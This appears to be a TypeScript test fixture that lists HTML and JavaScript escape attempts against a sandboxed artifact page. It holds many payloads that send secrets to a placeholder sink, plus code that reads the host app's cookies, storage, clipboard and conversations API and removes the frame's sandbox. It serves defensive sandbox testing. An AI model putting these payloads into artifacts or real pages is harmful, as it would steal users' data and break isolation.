// Ways out of a page. Each is a piece of HTML for an artifact; what it needs of the sink stands as SINK (an origin), HOST (host and port)
// and UDP (a port). It knows attacks, not what stops them.

export interface Attack {
  name: string;
  html: string;
  /** false: has no effect in an ordinary page here either (no https on loopback, a power that headless lacks), but is tried all the same */
  works?: false;
  /** Chromium ends the page's process for it (153 and 156 do, for a nested frame that may not connect) */
  kills?: true;
  /** the page tries to leave, so it may not be there afterwards */
  leaves?: true;
}

const js = (code: string): string => `<script>${code}</script>`;
/** spelled so that the check of our own imports does not take it for one */
const load = "import";
const peer =
  "const p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:UDP'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o));";
const nested = (inner: string): string => `<iframe srcdoc="${inner.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}"></iframe>`;

/** Something reaches another host. */
export const networkAttacks: Attack[] = [
  { name: "fetch", html: js("fetch('SINK/a').catch(()=>{})") },
  { name: "fetch that outlives the page", html: js("fetch('SINK/a',{method:'POST',mode:'no-cors',keepalive:true,body:'secret'}).catch(()=>{})") },
  { name: "XMLHttpRequest", html: js("const x=new XMLHttpRequest();x.open('POST','SINK/a');x.send('secret')") },
  { name: "beacon", html: js("navigator.sendBeacon('SINK/a','secret')") },
  { name: "WebSocket", html: js("new WebSocket('ws://HOST/a')") },
  { name: "EventSource", html: js("new EventSource('SINK/a')") },
  { name: "WebTransport", html: js("new WebTransport('https://127.0.0.1:UDP/a')"), works: false },
  { name: "peer connection", html: js(peer) },
  { name: "peer connection of a nested frame", html: nested(js(peer)) },
  {
    name: "peer connection of a frame in a closed shadow root",
    html: `<div id=h></div>${js(`const r=h.attachShadow({mode:'closed'});const f=document.createElement('iframe');f.srcdoc='<script>'+${JSON.stringify(peer)}+'<\\/script>';r.append(f)`)}`,
  },
  {
    name: "peer connection of a frame in a declared shadow root",
    html: `<div><template shadowrootmode=closed>${nested(js(peer))}</template></div>`,
    kills: true,
  },
  { name: "image", html: "<img src='SINK/a?secret'>" },
  { name: "image made by a script", html: js("new Image().src='SINK/a?secret'") },
  { name: "picture source", html: "<picture><source srcset='SINK/a'><img src='data:,'></picture>" },
  { name: "CSS background", html: "<style>body{background:url(SINK/a)}</style>" },
  { name: "CSS import", html: "<style>@import 'SINK/a';</style>" },
  { name: "CSS cursor and list", html: "<style>li{list-style-image:url(SINK/a)}</style><ul><li>x</ul>" },
  { name: "CSS attribute selector that spells a secret", html: "<style>input[value^=s]{background:url(SINK/a?s)}</style><input value=secret>" },
  { name: "font", html: "<style>@font-face{font-family:f;src:url(SINK/a)}p{font-family:f}</style><p>x</p>" },
  { name: "FontFace of a script", html: js("new FontFace('f','url(SINK/a)').load().catch(()=>{})") },
  { name: "style sheet", html: "<link rel=stylesheet href='SINK/a'>" },
  { name: "prefetch", html: "<link rel=prefetch href='SINK/a'>" },
  { name: "preload", html: "<link rel=preload as=image href='SINK/a'>" },
  { name: "module preload", html: "<link rel=modulepreload href='SINK/a'>" },
  { name: "preconnect", html: "<link rel=preconnect href='SINK'>", works: false },
  {
    name: "preconnect made by a script",
    html: js("document.head.append(Object.assign(document.createElement('link'),{rel:'preconnect',href:'SINK'}))"),
    works: false,
  },
  { name: "DNS prefetch", html: "<link rel=dns-prefetch href='SINK'>", works: false },
  {
    name: "speculation rules",
    html: '<script type=speculationrules>{"prefetch":[{"urls":["SINK/a"]}],"prerender":[{"urls":["SINK/b"]}]}</script>',
    works: false,
  },
  { name: "manifest", html: "<link rel=manifest href='SINK/a'>", works: false },
  { name: "favicon", html: "<link rel=icon href='SINK/a'>", works: false },
  { name: "ping of a link", html: `<a id=a href='#x' ping='SINK/a'>x</a>${js("a.click()")}` },
  { name: "form", html: `<form id=f method=post action='SINK/a'><input name=s value=secret></form>${js("f.submit()")}`, leaves: true },
  { name: "form into a new window", html: `<form action='SINK/a' target=_blank><button id=b>x</button></form>${js("b.click()")}` },
  {
    name: "button that changes the form",
    html: `<form action='#'><button id=b formaction='SINK/a'>x</button></form>${js("b.click()")}`,
    leaves: true,
  },
  { name: "meta refresh", html: "<meta http-equiv=refresh content='0;url=SINK/a?secret'>", leaves: true },
  { name: "location", html: js("location='SINK/a?secret'"), leaves: true },
  { name: "location.replace", html: js("location.replace('SINK/a?secret')"), leaves: true },
  { name: "a document of its own as data", html: js("location='data:text/html,<img src=SINK/a>'"), leaves: true, works: false },
  {
    name: "a document of its own as blob",
    html: js("location=URL.createObjectURL(new Blob(['<img src=SINK/a>'],{type:'text/html'}))"),
    leaves: true,
  },
  { name: "navigation API", html: js("navigation.navigate('SINK/a?secret').finished.catch(()=>{})"), leaves: true },
  { name: "top location", html: js("top.location='SINK/a?secret'"), leaves: true },
  { name: "parent location", html: js("parent.location.replace('SINK/a?secret')"), leaves: true },
  { name: "new window", html: js("window.open('SINK/a?secret')") },
  {
    name: "native window.open of the prototype",
    html: js("try{Window.prototype.open.call(window,'SINK/a')}catch{try{Object.getPrototypeOf(window).open('SINK/a')}catch{}}"),
    works: false,
  },
  { name: "link into a new window", html: `<a id=a target=_blank href='SINK/a'>x</a>${js("a.click()")}` },
  {
    name: "link to the top",
    html: `<a id=a target=_top href='SINK/a'>x</a>${js("a.dispatchEvent(new MouseEvent('click',{bubbles:false}))")}`,
    leaves: true,
  },
  { name: "SVG use", html: "<svg><use href='SINK/a#x'/></svg>", works: false },
  { name: "SVG image", html: "<svg><image href='SINK/a' width=9 height=9 /></svg>" },
  {
    name: "SVG filter image",
    html: "<svg width=9 height=9><filter id=f><feImage href='SINK/a'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
  },
  { name: "SVG foreign object", html: "<svg><foreignObject width=9 height=9><img src='SINK/a'></foreignObject></svg>" },
  { name: "worker", html: js("new Worker('SINK/a')"), works: false },
  { name: "worker from a blob", html: js("new Worker(URL.createObjectURL(new Blob(['fetch(\"SINK/a\").catch(()=>{})'])))") },
  { name: "worker that imports", html: js("new Worker(URL.createObjectURL(new Blob(['importScripts(\"SINK/a\")'])))") },
  { name: "worker from data", html: js("new Worker('data:text/javascript,fetch(\"SINK/a\").catch(()=>{})')") },
  { name: "WebSocket of a worker", html: js("new Worker(URL.createObjectURL(new Blob(['new WebSocket(\"ws://HOST/a\")'])))") },
  { name: "shared worker", html: js("new SharedWorker(URL.createObjectURL(new Blob(['fetch(\"SINK/a\").catch(()=>{})'])))") },
  { name: "service worker", html: js("navigator.serviceWorker.register('SINK/a').catch(()=>{})"), works: false },
  { name: "frame", html: "<iframe src='SINK/a'></iframe>" },
  { name: "frame with a document of its own", html: nested("<img src='SINK/a'>") },
  { name: "frame with a script of its own", html: nested(js("fetch('SINK/a').catch(()=>{})")) },
  { name: "frame that leaves", html: nested("<meta http-equiv=refresh content='0;url=SINK/a'>") },
  { name: "object", html: "<object data='SINK/a'></object>" },
  { name: "embed", html: "<embed src='SINK/a'>" },
  { name: "audio and video", html: "<video src='SINK/a' autoplay></video><audio src='SINK/b' autoplay></audio>" },
  { name: "poster", html: "<video poster='SINK/a'></video>" },
  { name: "audio worklet", html: js("new AudioContext().audioWorklet.addModule('SINK/a').catch(()=>{})") },
  { name: "paint worklet", html: js("CSS.paintWorklet?.addModule('SINK/a').catch(()=>{})"), works: false },
  { name: "import()", html: js(`${load}('SINK/a').catch(()=>{})`) },
  { name: "script", html: "<script src='SINK/a'></script>" },
  { name: "module script", html: "<script type=module src='SINK/a'></script>" },
  { name: "import in a module from data", html: js(`${load}('data:text/javascript,${load} "SINK/a"').catch(()=>{})`) },
  { name: "WebAssembly from a stream", html: js("WebAssembly.instantiateStreaming(fetch('SINK/a')).catch(()=>{})") },
  { name: "code made from a string", html: js("new Function('fetch(\"SINK/a\").catch(()=>{})')()") },
  { name: "base address", html: "<base href='SINK/'><img src='a'>" },
  {
    name: "report of a policy of its own",
    html: "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri SINK/a\"><img src='SINK/b'>",
    works: false,
  },
  { name: "a looser policy of its own", html: "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src='SINK/a'>" },
  {
    name: "document.write over itself",
    html: js("setTimeout(()=>{document.open();document.write('<img src=SINK/a>');document.close()})"),
    leaves: true,
  },
  { name: "attribution source", html: "<img attributionsrc='SINK/a' src='data:,'>", works: false },
  { name: "fenced frame", html: "<fencedframe src='SINK/a'></fencedframe>", works: false },
  { name: "download of a link", html: `<a id=a href='SINK/a' download=x>x</a>${js("a.click()")}` },
];

export interface Reach {
  name: string;
  /** a function body that may be async; returns what it got hold of, or throws */
  code: string;
}

/** Something of the app, the person or the machine gets into the page's hands. In a page with an origin each of these returns something. */
export const reaches: Reach[] = [
  { name: "the app's document", code: "return parent.document.body.innerHTML" },
  { name: "the frame element", code: "if (window.frameElement === null) throw 'none'; return frameElement.outerHTML" },
  { name: "the app's storage", code: "return top.localStorage.length" },
  { name: "the address of the app", code: "return top.location.href" },
  { name: "the app's history", code: "top.history.pushState(null, '', '/stolen'); return 'pushed'" },
  { name: "cookies", code: "return document.cookie + ' ' + (document.cookie = 'a=1')" },
  {
    name: "a database",
    code: "return await new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = () => ok('open'); r.onerror = () => no(r.error) })",
  },
  { name: "the cache", code: "return await caches.keys()" },
  { name: "a lock or channel shared with the app", code: "return await navigator.locks.query()" },
  { name: "private files", code: "return await navigator.storage.getDirectory()" },
  { name: "the app's API with the person's cookie", code: "return await (await fetch('APP/api/conversations', { credentials: 'include' })).text()" },
  { name: "the app's API without CORS", code: "return (await fetch('APP/api/conversations', { mode: 'no-cors', credentials: 'include' })).type" },
  { name: "the clipboard", code: "return await navigator.clipboard.readText()" },
  { name: "camera and microphone", code: "return await navigator.mediaDevices.getUserMedia({ video: true, audio: true })" },
  { name: "the screen", code: "return await navigator.mediaDevices.getDisplayMedia()" },
  { name: "the place", code: "return await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no))" },
  { name: "notifications", code: "const p = await Notification.requestPermission(); if (p !== 'granted') throw p; return p" },
  { name: "devices", code: "return await navigator.usb.requestDevice({ filters: [] })" },
  { name: "files of the machine", code: "return await showOpenFilePicker()" },
  { name: "a window of its own", code: "const w = window.open('about:blank'); if (!w) throw 'none'; return 'open'" },
  { name: "the history of another address", code: "history.pushState(null, '', 'SINK/stolen'); return location.href" },
  { name: "another name for its origin", code: "document.domain = '127.0.0.1'; return document.domain" },
  {
    name: "a frame with the app's origin",
    code: "const f = document.createElement('iframe'); f.src = 'APP/'; document.body.append(f); await new Promise(r => setTimeout(r, 200)); return f.contentWindow.document.body.innerHTML",
  },
  { name: "its own sandbox", code: "const f = window.frameElement; f.removeAttribute('sandbox'); return 'gone'" },
];
